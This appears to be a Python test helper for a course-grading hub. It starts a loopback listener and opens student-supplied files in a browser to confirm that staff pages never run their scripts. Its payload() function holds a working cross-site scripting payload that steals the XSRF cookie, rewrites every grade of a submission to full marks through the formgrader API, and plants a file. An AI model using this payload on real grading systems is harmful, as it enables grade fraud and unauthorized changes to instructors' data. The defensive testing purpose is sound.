"""A learner's file that calls home when a staff page runs it: the listener it calls,
and opening it in a browser page (tests/test_staff_views_inert.py, tests/test_hub_browser.py)."""

from __future__ import annotations

import contextlib
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def attack(port: int, where: str) -> str:
    """HTML with the payload twice: a <script> and an <img onerror>."""
    js = payload(port, where)
    return f'<script>{js}</script><img src="x" onerror="{js.replace(chr(34), "&quot;")}">'


class Listener:
    """A loopback HTTP server that records every request (the beacons)."""

    def __init__(self):
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def _record(self):
                hits.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_GET = do_POST = do_PUT = do_OPTIONS = _record  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def beside(folder) -> list[str]:
    """The names of the files beside the notebook in `folder`, as they reached it."""
    return sorted(p.name for p in folder.iterdir() if p.is_file() and p.suffix != ".ipynb")


def open_files(context, urls, seconds: float = 0.5, **goto) -> dict[str, str | None]:
    """Goes to each of `urls` in a page of its own and lets any script run: for each, the
    suggested name if the browser downloads it, None if it shows a page.

    Every page stays open until all have settled, so each one's scripts get the whole
    settle window, as when they were opened one after the other, in a single wait."""
    from playwright.sync_api import Error

    opened = []
    for url in urls:
        page = context.new_page()
        downloads: list[str] = []
        page.on(
            "download", lambda download, into=downloads: into.append(download.suggested_filename)
        )
        try:
            page.goto(url, **goto)
        except Error as error:  # a download aborts the navigation, and says so
            if "Download is starting" not in str(error) and not downloads:
                raise
            downloads.append(url.rsplit("/", 1)[-1])  # the event may come later
        opened.append((url, page, downloads))
    for _, page, _ in opened:
        loaded(page)
    time.sleep(seconds)
    shown = {url: downloads[0] if downloads else None for url, _, downloads in opened}
    for _, page, _ in opened:
        page.close()
    return shown


def payload(port: int, where: str) -> str:
    """JavaScript that tells the listener it ran, then tries the instructor's APIs."""
    return (
        (
            "(function(w){var b='http://127.0.0.1:PORT/beacon/'+w;"
            "try{new Image().src=b}catch(e){}try{navigator.sendBeacon(b)}catch(e){}"
            "try{fetch(b,{mode:'no-cors'})}catch(e){}"
            "var x=decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'');"
            "var h={'X-XSRFToken':x,'Content-Type':'application/json'};"
            "var m=location.pathname.match(/^(.*)\\/formgrader\\/submissions\\/([^\\/]+)/);"
            "var base=m?m[1]:'';"
            "if(m){fetch(base+'/formgrader/api/grades?submission_id='+m[2]).then(function(r){"
            "return r.json()}).then(function(gs){gs.forEach(function(g){"
            "fetch(base+'/formgrader/api/grade/'+g.id,{method:'PUT',headers:h,"
            "body:JSON.stringify({manual_score:g.max_score,extra_credit:1})})})})}"
            "fetch(base+'/api/contents/pwned_'+w+'.txt',{method:'PUT',headers:h,"
            "body:JSON.stringify({type:'file',format:'text',content:'pwned'})});"
            "})('WHERE')"
        )
        .replace("PORT", str(port))
        .replace("WHERE", where)
    )


def settle(page, seconds: float = 2.0) -> None:
    """Let a page's scripts (if any ran) reach the listener."""
    loaded(page)
    time.sleep(seconds)


def loaded(page) -> None:
    """Until the page's network is idle; a page still loading something is judged all
    the same."""
    with contextlib.suppress(Exception):
        page.wait_for_load_state("networkidle", timeout=15_000)
